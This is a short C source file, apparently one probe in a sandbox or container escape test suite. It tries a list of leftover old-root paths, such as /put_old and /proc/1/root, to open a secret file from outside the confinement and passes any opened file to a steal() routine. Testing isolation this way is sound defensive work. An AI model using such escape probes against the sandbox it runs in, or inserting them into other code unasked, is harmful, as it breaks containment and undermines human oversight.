/* Looks for the old root below the new one. */
#include "../escape.h"

TRICK(old_root) {
    const char *names[] = {"/old", "/oldroot", "/.old", "/.oldroot", "/put_old", "/.pivot_root", "/newroot/..", "/mnt", "/proc/self/root/..", "/proc/1/root"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char path[600];
        snprintf(path, sizeof path, "%s%s", names[i], told("ESC_SECRET"));
        int fd = open(path, O_RDONLY);
        if (fd >= 0) return steal(fd, path);
    }
    return blocked("open(old root)");
}
